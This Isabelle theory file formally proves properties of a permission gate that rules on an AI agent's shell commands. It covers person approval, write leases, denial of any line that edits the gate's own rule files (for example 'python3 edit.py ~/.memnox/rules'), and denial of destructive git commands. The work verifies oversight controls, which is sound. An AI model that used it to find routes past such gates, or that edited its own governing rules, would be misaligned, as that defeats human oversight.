(* ===== verification/SeamGuarantees.thy ===== *)
theory SeamGuarantees
  imports ShellSeam LineGuarantees GateGuarantees
begin

text \<open>
  What holds of a line at the shell seam: it runs on the verdicts of everything it shows, on a person's
  yes, and on the leases of what it writes; a line against the gate's own files, or a destructive git
  command under the recommended rules, never runs.
\<close>

section \<open>The worst verdict decides\<close>

abbreviation severity_of :: "seam_ruling \<Rightarrow> nat" where
  "severity_of r \<equiv> severity (hv_effect (sg_verdict r))"

lemma worst_in: "foldl worse a rs \<in> set (a # rs)"
proof (induction rs arbitrary: a)
  case (Cons r rs)
  have "foldl worse (worse a r) rs \<in> set (worse a r # rs)" by (rule Cons.IH)
  moreover have "worse a r \<in> {a, r}" by (simp add: worse_def)
  ultimately show ?case by auto
qed simp

lemma worse_severity: "severity_of a \<le> severity_of (worse a b)" "severity_of b \<le> severity_of (worse a b)"
  by (simp_all add: worse_def)

lemma worst_start: "severity_of a \<le> severity_of (foldl worse a rs)"
proof (induction rs arbitrary: a)
  case (Cons b rs)
  from worse_severity(1) [of a b] Cons.IH [of "worse a b"] show ?case by simp
qed simp

lemma worst_bound: "r \<in> set (a # rs) \<Longrightarrow> severity_of r \<le> severity_of (foldl worse a rs)"
proof (induction rs arbitrary: a)
  case Nil
  then show ?case by simp
next
  case (Cons b rs)
  have "severity_of a \<le> severity_of (foldl worse (worse a b) rs)" "severity_of b \<le> severity_of (foldl worse (worse a b) rs)"
    using worse_severity(1) [of a b] worse_severity(2) [where a = a and b = b] worst_start [of "worse a b" rs] by linarith+
  with Cons.prems Cons.IH [of "worse a b"] show ?case by auto
qed

lemma first_worst:
  "list_all (\<lambda>r. severity_of r < severity_of b) (a # pre) \<Longrightarrow> list_all (\<lambda>r. severity_of r \<le> severity_of b) post \<Longrightarrow>
     foldl worse a (pre @ b # post) = b"
proof (induction pre arbitrary: a)
  case Nil
  have "list_all (\<lambda>r. severity_of r \<le> severity_of b) post \<Longrightarrow> foldl worse b post = b"
    by (induction post) (simp_all add: worse_def)
  moreover have "worse a b = b" using Nil by (simp add: worse_def)
  ultimately show ?case using Nil by simp
next
  case (Cons c pre)
  have "worse a c \<in> {a, c}" by (simp add: worse_def)
  with Cons show ?case by auto
qed

lemma rulings_nonempty: "rulings_of seam asks line = hd (rulings_of seam asks line) # tl (rulings_of seam asks line)"
  by (simp add: rulings_of_def)

lemma seam_rule_in: "seam_rule seam asks line \<in> set (rulings_of seam asks line)"
  unfolding seam_rule_def by (subst (3) rulings_nonempty) (rule worst_in)

lemma seam_rule_bound:
  "r \<in> set (rulings_of seam asks line) \<Longrightarrow> severity_of r \<le> severity_of (seam_rule seam asks line)"
  unfolding seam_rule_def using rulings_nonempty [of seam asks line] worst_bound by metis

lemma severity_allow [simp]: "severity e = 0 \<longleftrightarrow> e = ALLOW"
  by (cases e) simp_all

lemma severity_inj: "severity e = severity f \<longleftrightarrow> e = f"
  by (cases e; cases f) simp_all

section \<open>What runs\<close>

lemma note_clones_leases [simp]: "sw_leases (note_clones seam now line w) = sw_leases w"
proof -
  have one: "sw_leases (foldl step w commands) = sw_leases w"
    if "\<And>w command. sw_leases (step w command) = sw_leases w" for step and commands :: "parsed_command list"
    using that by (induction commands arbitrary: w) simp_all
  show ?thesis unfolding note_clones_def Let_def by (auto intro!: one split: option.split)
qed

lemma proceed_cases:
  assumes "proceed seam now command line decision w = Some (r, w')"
  shows "so_run r = Some command \<and> so_decision r = decision \<and>
      (\<exists>w1. seam_claim seam line w = Some (None, w1) \<and> sw_leases w' = sw_leases w1) \<or>
    so_run r = None \<and> sd_effect (so_decision r) = DENY"
  using assms by (auto simp: proceed_def withheld_def split: option.splits)

lemma ask_about_some:
  "ask_about seam line ruling = Some r \<Longrightarrow>
     so_run r = None \<and> (sd_effect (so_decision r) = DENY \<or> so_decision r = decision_of ruling False)"
  by (auto simp: ask_about_def withheld_def Let_def split: option.splits if_splits)

lemma ask_about_none:
  "ask_about seam line ruling = None \<Longrightarrow>
     \<exists>person. se_person seam = Some person \<and> hold_allowed (person (seam_hold_request seam line ruling))"
  by (auto simp: ask_about_def Let_def split: option.splits if_splits)

lemma seam_gate_run:
  assumes "seam_gate seam asks now command w = Some (r, w')" "so_run r = Some c"
  shows "c = command" "command \<noteq> []"
    "hv_effect (sg_verdict (seam_rule seam asks (shell_line_of command))) = ALLOW \<or>
     hv_effect (sg_verdict (seam_rule seam asks (shell_line_of command))) = ASK \<and>
     (\<exists>person. se_person seam = Some person \<and>
        hold_allowed (person (seam_hold_request seam (shell_line_of command) (seam_rule seam asks (shell_line_of command)))))"
    "\<exists>w0 w1. sw_leases w0 = sw_leases w \<and> seam_claim seam (shell_line_of command) w0 = Some (None, w1) \<and> sw_leases w' = sw_leases w1"
proof -
  let ?line = "shell_line_of command" let ?ruling = "seam_rule seam asks (shell_line_of command)"
  have ne: "command \<noteq> []" using assms by (auto simp: seam_gate_def nothing_to_run_def withheld_def)
  show "command \<noteq> []" by (rule ne)
  have all: "c = command \<and> (hv_effect (sg_verdict ?ruling) = ALLOW \<or> hv_effect (sg_verdict ?ruling) = ASK \<and>
     (\<exists>person. se_person seam = Some person \<and> hold_allowed (person (seam_hold_request seam ?line ?ruling)))) \<and>
     (\<exists>w0 w1. sw_leases w0 = sw_leases w \<and> seam_claim seam ?line w0 = Some (None, w1) \<and> sw_leases w' = sw_leases w1)"
  proof (cases "hv_effect (sg_verdict ?ruling)")
    case ALLOW
    with assms(1) ne have "proceed seam now command ?line (decision_of ?ruling False) w = Some (r, w')"
      by (simp add: seam_gate_def Let_def)
    from proceed_cases [OF this] assms(2) ALLOW show ?thesis by auto
  next
    case ASK
    show ?thesis
    proof (cases "ask_about seam ?line ?ruling")
      case None
      let ?w = "w\<lparr>sw_learned := Suc (sw_learned w)\<rparr>"
      from assms(1) ne ASK None have "proceed seam now command ?line
          (decision_of (?ruling\<lparr>sg_verdict := (sg_verdict ?ruling)\<lparr>hv_effect := ALLOW\<rparr>\<rparr>) True) ?w = Some (r, w')"
        by (simp add: seam_gate_def Let_def)
      from proceed_cases [OF this] assms(2) have p: "c = command"
        "\<exists>w1. seam_claim seam ?line ?w = Some (None, w1) \<and> sw_leases w' = sw_leases w1" by auto
      have "sw_leases ?w = sw_leases w" by simp
      with p ask_about_none [OF None] ASK show ?thesis by blast
    next
      case (Some answered)
      with assms ne ASK ask_about_some [OF Some] show ?thesis by (simp add: seam_gate_def Let_def)
    qed
  next
    case DENY
    with assms ne show ?thesis by (auto simp: seam_gate_def Let_def withheld_def)
  qed
  then show "c = command"
    "hv_effect (sg_verdict ?ruling) = ALLOW \<or> hv_effect (sg_verdict ?ruling) = ASK \<and>
     (\<exists>person. se_person seam = Some person \<and> hold_allowed (person (seam_hold_request seam ?line ?ruling)))"
    "\<exists>w0 w1. sw_leases w0 = sw_leases w \<and> seam_claim seam ?line w0 = Some (None, w1) \<and> sw_leases w' = sw_leases w1" by blast+
qed

section \<open>Claims\<close>

text \<open>
  The claims of a line with each scope once, and claims put one after another: each is put to the lease
  gate in the world the one before it left, and is let through.
\<close>

fun claims_once :: "string list \<Rightarrow> (string \<times> string) list \<Rightarrow> (string \<times> string) list" where
  "claims_once seen [] = []"
| "claims_once seen ((scope, intent) # still) =
     (if scope \<in> set seen then claims_once seen still else (scope, intent) # claims_once (scope # seen) still)"

fun claims_in_turn :: "seam_leases \<Rightarrow> (string \<times> string) list \<Rightarrow> lease_world \<Rightarrow> lease_world \<Rightarrow> bool" where
  "claims_in_turn leases [] lw lw' \<longleftrightarrow> lw' = lw"
| "claims_in_turn leases ((scope, intent) # still) lw lw' \<longleftrightarrow>
     (case LeaseGate.claim (sl_gate leases) scope (sl_holder leases) intent None lw of
        None \<Rightarrow> False
      | Some (verdict, lw1) \<Rightarrow> proceeds verdict \<and> claims_in_turn leases still lw1 lw')"

lemma claims_once_scopes: "fst ` set (claims_once seen still) = fst ` set still - set seen"
  by (induction seen still rule: claims_once.induct) auto

lemma claim_all_in_turn:
  "claim_all seam leases taken_now still w = Some (None, w') \<Longrightarrow>
     claims_in_turn leases (claims_once taken_now still) (sw_leases w) (sw_leases w')"
proof (induction seam leases taken_now still w rule: claim_all.induct)
  case (2 seam leases taken_now scope intent still w)
  show ?case
  proof (cases "scope \<in> set taken_now")
    case True
    with 2(1) [OF True] 2(3) show ?thesis by auto
  next
    case False
    with 2(3) obtain verdict lw where c: "LeaseGate.claim (sl_gate leases) scope (sl_holder leases) intent None (sw_leases w) = Some (verdict, lw)"
      by (auto split: option.splits)
    with 2(3) False have p: "proceeds verdict" by (auto simp: Let_def split: if_splits)
    with 2(3) False c have rest: "claim_all seam leases (scope # taken_now) still (w\<lparr>sw_leases := lw\<rparr>) = Some (None, w')"
      by (simp add: Let_def)
    from 2(2) [OF False c refl refl p rest] c p False show ?thesis by simp
  qed
qed simp

section \<open>Every shown action has a ruling\<close>

lemma asked_has_ruling:
  assumes "(r, t) \<in> set (asked_of seam line)"
  shows "\<exists>i. action_ruling seam asks i r t \<in> set (rulings_of seam asks line)"
proof -
  from assms obtain k where "k < length (asked_of seam line)" "asked_of seam line ! k = (r, t)"
    by (auto simp: in_set_conv_nth)
  then have "(1 + k, r, t) \<in> set (enumerate 1 (asked_of seam line))"
    by (auto simp: in_set_enumerate_eq)
  then show ?thesis by (force simp: rulings_of_def)
qed

lemma action_asked:
  assumes "r \<in> set (rl_actions (resolve_shell_line (se_base64 seam) (se_io seam) line (se_env seam)))"
    and "ra_action r \<noteq> SHELL_ACTION" "t \<in> set (targets_ruled_on r (Some line))"
  shows "(r, or_else t line) \<in> set (asked_of seam line)"
  using assms by (force simp: asked_of_def)

text \<open>The table of a binary by its name, so that a line can be evaluated without all the tables.\<close>

lemma verb_table_for_named [code]:
  "verb_table_for binary =
     (if binary = ''aws'' then Some aws_table else
      if binary = ''gcloud'' then Some gcloud_table else
      if binary = ''az'' then Some az_table else
      if binary = ''gh'' then Some gh_table else
      if binary = ''kubectl'' then Some kubectl_table else
      if binary = ''terraform'' then Some terraform_table else
      if binary = ''docker'' then Some docker_table else
      if binary = ''vercel'' then Some vercel_table else
      if binary = ''railway'' then Some railway_table else
      if binary = ''fly'' then Some fly_table else
      if binary = ''heroku'' then Some heroku_table else
      if binary = ''netlify'' then Some netlify_table else
      if binary = ''psql'' then Some psql_table else
      if binary = ''pgcli'' then Some pgcli_table else
      if binary = ''mysql'' then Some mysql_table else
      if binary = ''mariadb'' then Some mariadb_table else
      if binary = ''mycli'' then Some mycli_table else
      if binary = ''redis-cli'' then Some redis_cli_table else
      if binary = ''mongosh'' then Some mongosh_table else
      if binary = ''npm'' then Some npm_table else
      if binary = ''stripe'' then Some stripe_table else
      if binary = ''git'' then Some git_table else
      if binary = ''playwright'' then Some playwright_table else None)"
  by (simp add: verb_table_for_def VERB_TABLES_all table_names)

section \<open>What the seam guarantees\<close>

text \<open>
  Property C9. A line runs only as it was ruled: when the seam lets a command run, what runs is that
  command, nothing the line was asked about was denied, everything was allowed unless a person who was
  asked said yes, and where the seam keeps leases every scope the line writes in was claimed, each once and
  each from the leases the claim before it left, from those the seam started with to those it ends with, and
  every one of these claims was let through.
\<close>

theorem line_runs_only_as_ruled:
  assumes "seam_gate seam asks now command w = Some (r, w')" and "so_run r = Some c"
  shows "c = command \<and>
    list_all (\<lambda>ruling. hv_effect (sg_verdict ruling) \<noteq> DENY) (rulings_of seam asks (shell_line_of command)) \<and>
    (list_all (\<lambda>ruling. hv_effect (sg_verdict ruling) = ALLOW) (rulings_of seam asks (shell_line_of command)) \<or>
     (\<exists>person. se_person seam = Some person \<and>
        hold_allowed (person (seam_hold_request seam (shell_line_of command) (seam_rule seam asks (shell_line_of command)))))) \<and>
    (case se_leases seam of
       None \<Rightarrow> sw_leases w' = sw_leases w
     | Some leases \<Rightarrow>
         claims_in_turn leases (claims_once [] (claims_of seam leases (shell_line_of command))) (sw_leases w) (sw_leases w'))"
proof -
  let ?line = "shell_line_of command" let ?rule = "seam_rule seam asks (shell_line_of command)"
  note run = seam_gate_run [OF assms]
  have low: "severity_of ?rule < 2" using run(3) by auto
  have "hv_effect (sg_verdict ruling) \<noteq> DENY" if "ruling \<in> set (rulings_of seam asks ?line)" for ruling
    using seam_rule_bound [OF that] low by (cases "hv_effect (sg_verdict ruling)") auto
  moreover have "hv_effect (sg_verdict ruling) = ALLOW" if "hv_effect (sg_verdict ?rule) = ALLOW" "ruling \<in> set (rulings_of seam asks ?line)" for ruling
    using seam_rule_bound [OF that(2)] that(1) by simp
  moreover have "case se_leases seam of None \<Rightarrow> sw_leases w' = sw_leases w
     | Some leases \<Rightarrow> claims_in_turn leases (claims_once [] (claims_of seam leases ?line)) (sw_leases w) (sw_leases w')"
  proof -
    from run(4) obtain w0 w1 where c: "sw_leases w0 = sw_leases w" "seam_claim seam ?line w0 = Some (None, w1)"
      "sw_leases w' = sw_leases w1" by blast
    show ?thesis
    proof (cases "se_leases seam")
      case None
      with c show ?thesis by (simp add: seam_claim_def)
    next
      case (Some leases)
      with c have "claim_all seam leases [] (claims_of seam leases ?line) w0 = Some (None, w1)" by (simp add: seam_claim_def)
      from claim_all_in_turn [OF this] Some c show ?thesis by simp
    qed
  qed
  ultimately show ?thesis using run(1,3) unfolding list_all_iff by blast
qed

definition plain_seam :: shell_seam where
  "plain_seam =
     \<lparr>se_authorizer = \<lparr>ho_env = plain_env, ho_gate = None\<rparr>, se_session = None, se_agent = None, se_cwd = None,
      se_process_cwd = ''/w'', se_env = no_env, se_io = no_io, se_base64 = (\<lambda>s. s), se_digest = (\<lambda>s. s),
      se_person = None, se_leases = None, se_at_home = False\<rparr>"

definition plain_world :: seam_world where
  "plain_world =
     \<lparr>sw_leases = \<lparr>lw_dir = [], lw_now = 0\<rparr>, sw_clashes = [], sw_probation = [], sw_learned = 0\<rparr>"

definition never_stopped :: asks where "never_stopped = (\<lambda>i. (False, 0))"

lemma plain_seam_runs:
  "map_option (\<lambda>(r, w). so_run r) (seam_gate plain_seam never_stopped 0 [''ls''] plain_world) = Some (Some [''ls''])"
  by code_simp

definition asking_gate :: lease_gate_deps where
  "asking_gate =
     \<lparr>lg_digest = (\<lambda>s. s), lg_alive = (\<lambda>p. True), lg_shared = None,
      lg_prompt = Some (\<lambda>l path now budget repository w. (Some (Some \<lparr>la_answer = LA_REFUSE, la_reason = None\<rparr>), w)),
      lg_region = None, lg_repository = None, lg_project = None, lg_sleep = (\<lambda>ms w. w), lg_ceiling_ms = None,
      lg_poll_ms = None\<rparr>"

definition two_agents :: "string \<Rightarrow> seam_leases" where
  "two_agents agent =
     \<lparr>sl_gate = asking_gate, sl_root = ''/w'', sl_holder = \<lparr>lh_agent = agent, lh_session_id = agent, lh_pid = 1\<rparr>,
      sl_is_directory = (\<lambda>p. False)\<rparr>"

definition leasing_seam :: shell_seam where
  "leasing_seam = plain_seam\<lparr>se_leases := Some (two_agents ''agent'')\<rparr>"

lemma leasing_seam_runs:
  "map_option (\<lambda>(r, w). (so_run r, map ls_path (dir_all (lw_dir (sw_leases w)))))
     (seam_gate leasing_seam never_stopped 0 [''ls > /w/d/f''] plain_world) = Some (Some [''ls > /w/d/f''], [''d''])"
  by code_simp

lemma leasing_seam_claims:
  "claims_once [] (claims_of leasing_seam (two_agents ''agent'') (shell_line_of [''ls > /w/d/f''])) =
     [(''d'', ''filesystem.write /w/d/f'')]"
  by code_simp

theorem line_runs_only_as_ruled_witness:
  "\<exists>r w'. seam_gate leasing_seam never_stopped 0 [''ls > /w/d/f''] plain_world = Some (r, w') \<and>
     map ls_path (dir_all (lw_dir (sw_leases w'))) = [''d''] \<and>
     claims_in_turn (two_agents ''agent'') [(''d'', ''filesystem.write /w/d/f'')] (sw_leases plain_world) (sw_leases w')"
proof -
  from leasing_seam_runs obtain r w' where r: "seam_gate leasing_seam never_stopped 0 [''ls > /w/d/f''] plain_world = Some (r, w')"
    "so_run r = Some [''ls > /w/d/f'']" "map ls_path (dir_all (lw_dir (sw_leases w'))) = [''d'']" by auto
  have "se_leases leasing_seam = Some (two_agents ''agent'')" by (simp add: leasing_seam_def)
  with line_runs_only_as_ruled [OF r(1,2)] leasing_seam_claims
  have "claims_in_turn (two_agents ''agent'') [(''d'', ''filesystem.write /w/d/f'')] (sw_leases plain_world) (sw_leases w')"
    by simp
  with r(1,3) show ?thesis by (intro exI [of _ r] exI [of _ w'] conjI)
qed

text \<open>
  The row a line leaves says what became of it: its effect is allow exactly when the
  command runs, and a command that does not run is answered with a message and the exit code of what was
  withheld.
\<close>

theorem row_says_what_ran:
  assumes "seam_gate seam asks now command w = Some (r, w')"
  shows "(sd_effect (so_decision r) = ALLOW \<longleftrightarrow> so_run r \<noteq> None) \<and>
    (so_run r = None \<longrightarrow> so_message r \<noteq> None \<and> so_exit_code r = SHELL_EXIT_WITHHELD)"
proof (cases "command = []")
  case True
  with assms show ?thesis by (auto simp: seam_gate_def nothing_to_run_def withheld_def)
next
  case False
  let ?line = "shell_line_of command" let ?rule = "seam_rule seam asks (shell_line_of command)"
  have settled: "?thesis" if "proceed seam now command ?line decision w1 = Some (r, w')" "sd_effect decision = ALLOW" for decision w1
    using that by (auto simp: proceed_def withheld_def split: option.splits)
  show ?thesis
  proof (cases "hv_effect (sg_verdict ?rule)")
    case ALLOW
    with assms False have "proceed seam now command ?line (decision_of ?rule False) w = Some (r, w')"
      by (simp add: seam_gate_def Let_def)
    then show ?thesis by (rule settled) (simp add: decision_of_def Let_def ALLOW)
  next
    case ASK
    show ?thesis
    proof (cases "ask_about seam ?line ?rule")
      case None
      with assms False ASK have "proceed seam now command ?line
          (decision_of (?rule\<lparr>sg_verdict := (sg_verdict ?rule)\<lparr>hv_effect := ALLOW\<rparr>\<rparr>) True) (w\<lparr>sw_learned := Suc (sw_learned w)\<rparr>) = Some (r, w')"
        by (simp add: seam_gate_def Let_def)
      then show ?thesis by (rule settled) (simp add: decision_of_def Let_def)
    next
      case (Some answered)
      with assms False ASK have "answered = r" by (simp add: seam_gate_def Let_def)
      with Some ASK show ?thesis
        by (auto simp: ask_about_def withheld_def decision_of_def Let_def split: option.splits if_splits)
    qed
  next
    case DENY
    with assms False show ?thesis by (auto simp: seam_gate_def Let_def withheld_def decision_of_def)
  qed
qed

theorem row_says_what_ran_witness:
  "\<exists>r w'. seam_gate plain_seam never_stopped 0 [''ls''] plain_world = Some (r, w') \<and> sd_effect (so_decision r) = ALLOW"
proof -
  from plain_seam_runs obtain r w' where r: "seam_gate plain_seam never_stopped 0 [''ls''] plain_world = Some (r, w')"
    "so_run r = Some [''ls'']" by auto
  from row_says_what_ran [OF r(1)] r show ?thesis by simp
qed

section \<open>The gate's own files\<close>

text \<open>What a gate is told by its notices may tighten a verdict and never turn a denial into anything else.\<close>

definition keeps_denials :: "local_gate \<Rightarrow> bool" where
  "keeps_denials gate \<longleftrightarrow>
     (case lg_notice gate of
        None \<Rightarrow> True
      | Some consider \<Rightarrow> \<forall>request v. lv_effect v = DENY \<longrightarrow> lv_effect (consider request v) = DENY)"

lemma protected_request_denied:
  assumes "self_protection (ge_fs env) request \<noteq> None" "keeps_denials gate"
  shows "lv_effect (gate_evaluate env gate now request) = DENY"
proof -
  obtain ask where ask: "self_protection (ge_fs env) request = Some ask" using assms(1) by auto
  from self_protection_refuses [OF ask] ask have "lv_effect (ruled env gate now request) = DENY"
    by (intro ruled_denies) (simp add: held_over_def effect_under_def)
  with assms(2) show ?thesis by (auto simp: gate_evaluate_def keeps_denials_def split: option.splits)
qed

lemma governing_action:
  assumes "names_protected line = Some named"
    and "changes_something (seen_actions io (normalize_shell_command base64_text line) env) \<or>
      nc_opaque (normalize_shell_command base64_text line) \<noteq> [] \<or>
      runs_interpreter line (nc_parsed (normalize_shell_command base64_text line))"
  shows "\<exists>a \<in> set (rl_actions (resolve_shell_line base64_text io line env)).
    ra_action a = FILESYSTEM_WRITE \<and> ra_target a = Some (protected_target_for named) \<and> ra_targets a = None"
proof -
  let ?normalized = "normalize_shell_command base64_text line"
  obtain a where a: "governing_change line (seen_actions io ?normalized env) ?normalized = Some a" "ra_action a = FILESYSTEM_WRITE"
    "ra_target a = Some (protected_target_for named)" "ra_targets a = None"
    using assms by (auto simp: governing_change_def plain_action_def)
  then show ?thesis by (auto simp: resolve_shell_line_def Let_def)
qed

lemma protected_write_denied:
  assumes "is_protected_path t"
  shows "self_protection fs (seam_request seam FILESYSTEM_WRITE t resolved) \<noteq> None"
  using assms
  by (simp add: self_protection_def seam_request_def bare_request_def WRITES_def touches_protected_def Let_def)

lemma gate_denial_denies:
  assumes "ho_gate a = Some gate" and "lv_effect (gate_evaluate (ho_env a) gate now request) = DENY"
  shows "hv_effect (hook_authorize a False now request) = DENY"
  using assms egress_is_denied [of request]
  by (auto simp: hook_authorize_def verdict_of_gate_def hook_verdict_of_def split: option.split)

text \<open>A line with an action the gate denies does not run, while protection is not stopped.\<close>

lemma denied_action_never_runs:
  assumes "a \<in> set (rl_actions (resolve_shell_line (se_base64 seam) (se_io seam) (shell_line_of command) (se_env seam)))"
    and "ra_action a \<noteq> SHELL_ACTION" and "t \<in> set (targets_ruled_on a (Some (shell_line_of command)))"
    and "ho_gate (se_authorizer seam) = Some gate" and "\<And>i. \<not> fst (asks i)"
    and "\<And>i. lv_effect (gate_evaluate (ho_env (se_authorizer seam)) gate (snd (asks i))
          (seam_request seam (ra_action a) (or_else t (shell_line_of command)) (Some a))) = DENY"
    and "seam_gate seam asks now command w = Some (r, w')"
  shows "so_run r = None"
proof (rule ccontr)
  let ?line = "shell_line_of command" let ?t = "or_else t (shell_line_of command)"
  assume "so_run r \<noteq> None"
  then obtain c where c: "so_run r = Some c" by auto
  have "(a, ?t) \<in> set (asked_of seam ?line)" using action_asked [OF assms(1-3)] .
  from asked_has_ruling [OF this] obtain i where i: "action_ruling seam asks i a ?t \<in> set (rulings_of seam asks ?line)" by blast
  have "hv_effect (authorized seam asks i (seam_request seam (ra_action a) ?t (Some a))) = DENY"
    using gate_denial_denies [OF assms(4) assms(6)] assms(5) by (simp add: authorized_def)
  then have "severity_of (action_ruling seam asks i a ?t) = 2"
    by (simp add: action_ruling_def Let_def)
  with seam_rule_bound [OF i] seam_gate_run(3) [OF assms(7) c] show False by auto
qed

text \<open>
  Property C10. From the text of a line to its end: where rules are loaded, protection is not stopped and what the
  gate is told by its notices turns no denial into anything else, a line that names what governs the agent and
  changes anything, runs an interpreter or hides part of itself never runs for an agent, whatever the rules
  allow, whoever says yes and however it would reach the place it names.
\<close>

theorem line_against_its_rules_never_runs:
  assumes "names_protected line = Some named"
    and "changes_something (seen_actions (se_io seam) (normalize_shell_command (se_base64 seam) line) (se_env seam)) \<or>
      nc_opaque (normalize_shell_command (se_base64 seam) line) \<noteq> [] \<or>
      runs_interpreter line (nc_parsed (normalize_shell_command (se_base64 seam) line))"
    and "ho_gate (se_authorizer seam) = Some gate" and "keeps_denials gate" and "\<And>i. \<not> fst (asks i)"
    and "seam_gate seam asks now [line] w = Some (r, w')"
  shows "so_run r = None"
proof -
  have line: "shell_line_of [line] = line" by (simp add: shell_line_of_def)
  from governing_action [OF assms(1,2)] obtain a where
    a: "a \<in> set (rl_actions (resolve_shell_line (se_base64 seam) (se_io seam) line (se_env seam)))"
      "ra_action a = FILESYSTEM_WRITE" "ra_target a = Some (protected_target_for named)" "ra_targets a = None" by blast
  let ?t = "protected_target_for named"
  have "is_protected_path ?t"
    using names_protected_known [OF assms(1)] protected_names_protected by (simp add: list_all_iff)
  then have "lv_effect (gate_evaluate (ho_env (se_authorizer seam)) gate at' (seam_request seam (ra_action a) ?t (Some a))) = DENY" for at'
    using protected_request_denied [OF protected_write_denied assms(4)] a(2) by simp
  moreover have "ra_action a \<noteq> SHELL_ACTION" using a(2) by (simp add: SHELL_ACTION_def)
  moreover have "Some ?t \<in> set (targets_ruled_on a (Some line))" using a(3,4) by (simp add: targets_ruled_on_def)
  ultimately show ?thesis
    using denied_action_never_runs [of a seam "[line]" "Some ?t" gate asks now w r w'] a(1) assms(3,5,6) by (simp add: line)
qed

definition guarded_seam :: shell_seam where
  "guarded_seam = plain_seam\<lparr>se_authorizer :=
     \<lparr>ho_env = plain_env, ho_gate = Some (new_local_gate sample_version [allow_git] open_options)\<rparr>\<rparr>"

lemma seam_gate_answers: "se_leases seam = None \<Longrightarrow> \<exists>r w'. seam_gate seam asks now command w = Some (r, w')"
  by (auto simp: seam_gate_def proceed_def seam_claim_def Let_def split: decision_effect.split option.split)

theorem line_against_its_rules_never_runs_witness:
  "\<exists>r w'. seam_gate guarded_seam never_stopped 0 [''python3 edit.py ~/.memnox/rules''] plain_world = Some (r, w') \<and> so_run r = None"
proof -
  have "se_leases guarded_seam = None" by (simp add: guarded_seam_def plain_seam_def)
  from seam_gate_answers [OF this] obtain r w' where
    r: "seam_gate guarded_seam never_stopped 0 [''python3 edit.py ~/.memnox/rules''] plain_world = Some (r, w')" by blast
  have "names_protected ''python3 edit.py ~/.memnox/rules'' = Some ''.memnox''" by code_simp
  moreover have "list_ex starts_interpreter (runs_off between_segments ''python3 edit.py ~/.memnox/rules'')" by code_simp
  then have "runs_interpreter ''python3 edit.py ~/.memnox/rules''
      (nc_parsed (normalize_shell_command (se_base64 guarded_seam) ''python3 edit.py ~/.memnox/rules''))"
    by (simp add: runs_interpreter_def)
  moreover have "ho_gate (se_authorizer guarded_seam) = Some (new_local_gate sample_version [allow_git] open_options)"
    by (simp add: guarded_seam_def)
  moreover have "keeps_denials (new_local_gate sample_version [allow_git] open_options)"
    by (simp add: keeps_denials_def new_local_gate_def)
  moreover have "\<not> fst (never_stopped i)" for i by (simp add: never_stopped_def)
  ultimately have "so_run r = None" using line_against_its_rules_never_runs r by blast
  with r show ?thesis by blast
qed

section \<open>A destructive git command\<close>

lemma git_names_not_shell:
  "list_all (\<lambda>action. action \<noteq> SHELL_ACTION \<and> action \<noteq> SHELL_HIDDEN) (dc_actions git_choice)"
  by code_simp

lemma git_denied_by_gate:
  assumes "lg_engine gate = new_engine version_of policies default_effect"
    and "set (policies_from recommended_answers) \<subseteq> set policies" and "keeps_denials gate"
    and "rq_action request \<in> set (dc_actions git_choice)"
  shows "lv_effect (gate_evaluate env gate at' request) = DENY"
proof -
  have "er_effect (evaluated_as gate agent request at' drift) = DENY" for agent drift
    unfolding evaluated_as_def assms(1) using assms(2) git_deny_recommended git_deny_stands git_deny_matches [OF assms(4)]
    by (intro deny_rule_decides [where p = git_deny]) auto
  then have "DENY \<le> er_effect (evaluated gate request at' (drift_of gate request))"
    using evaluated_bound [of "evaluated_as gate (lo_agent_name (lg_options gate)) request at' (drift_of gate request)"]
    unfolding evaluated_def by metis
  then have deny: "er_effect (evaluated gate request at' (drift_of gate request)) = DENY" by simp
  have "rq_action request \<noteq> SHELL_HIDDEN" using git_names_not_shell assms(4) by (auto simp: list_all_iff)
  from held_over_deny [OF this] deny have "lv_effect (ruled env gate at' request) = DENY" by (intro ruled_denies) simp
  with assms(3) show ?thesis by (auto simp: gate_evaluate_def keeps_denials_def split: option.splits)
qed

text \<open>
  Property C8. From the words of a git command to its end: where the recommended rules are loaded beside any
  others, protection is not stopped and the notices of the gate turn no denial into anything else, a git command the
  table of git reads as destructive, given as words or as the line those words are written as, never runs for
  an agent, whatever the other rules and the allowances let through and whoever says yes. The words hold no
  \<open><<\<close> and nothing that reads as a substitution, and set no alias that runs a command of its own.
\<close>

theorem destructive_git_line_never_runs:
  assumes "vb_class (refine_verb git_table (verb_argv git_table args) (class_of git_table (verb_argv git_table args)))
      = TC_DESTRUCTIVE"
    and "\<not> includes_text ''<<'' (quote_shell_words (''git'' # args))"
    and "substitutions_in (quote_shell_words (''git'' # args)) = []" and "git_alias_runs (''git'' # args) = None"
    and "shell_line_of command = quote_shell_words (''git'' # args)"
    and "ho_gate (se_authorizer seam) = Some gate" and "keeps_denials gate" and "\<And>i. \<not> fst (asks i)"
    and "lg_engine gate = new_engine version_of policies default_effect"
    and "set (policies_from recommended_answers) \<subseteq> set policies"
    and "seam_gate seam asks now command w = Some (r, w')"
  shows "so_run r = None"
proof -
  from destructive_git_is_ruled_on [OF assms(1-4)] obtain a where
    a: "a \<in> set (rl_actions (resolve_shell_line (se_base64 seam) (se_io seam) (shell_line_of command) (se_env seam)))"
      "ra_action a \<in> set (dc_actions git_choice)" unfolding assms(5) by blast
  have "ra_action a \<noteq> SHELL_ACTION" using git_names_not_shell a(2) by (auto simp: list_all_iff)
  moreover obtain t where "t \<in> set (targets_ruled_on a (Some (shell_line_of command)))"
    by (cases "targets_ruled_on a (Some (shell_line_of command))") (auto simp: targets_ruled_on_def split: option.splits list.splits)
  moreover have "rq_action (seam_request seam (ra_action a) target (Some a)) \<in> set (dc_actions git_choice)" for target
    using a(2) by (simp add: seam_request_def bare_request_def)
  from git_denied_by_gate [OF assms(9,10,7) this]
  have "lv_effect (gate_evaluate (ho_env (se_authorizer seam)) gate at' (seam_request seam (ra_action a) target (Some a))) = DENY" for at' target .
  ultimately show ?thesis
    using denied_action_never_runs [OF a(1) _ _ assms(6,8) _ assms(11)] by blast
qed

definition recommended_seam :: shell_seam where
  "recommended_seam = plain_seam\<lparr>se_authorizer :=
     \<lparr>ho_env = plain_env, ho_gate = Some (new_local_gate sample_version (policies_from recommended_answers @ [allow_git]) open_options)\<rparr>\<rparr>"

theorem destructive_git_line_never_runs_witness:
  "\<exists>r w'. seam_gate recommended_seam never_stopped 0 (''git'' # forced_by_refspec) plain_world = Some (r, w') \<and> so_run r = None"
proof -
  let ?gate = "new_local_gate sample_version (policies_from recommended_answers @ [allow_git]) open_options"
  have "se_leases recommended_seam = None" by (simp add: recommended_seam_def plain_seam_def)
  from seam_gate_answers [OF this] obtain r w' where
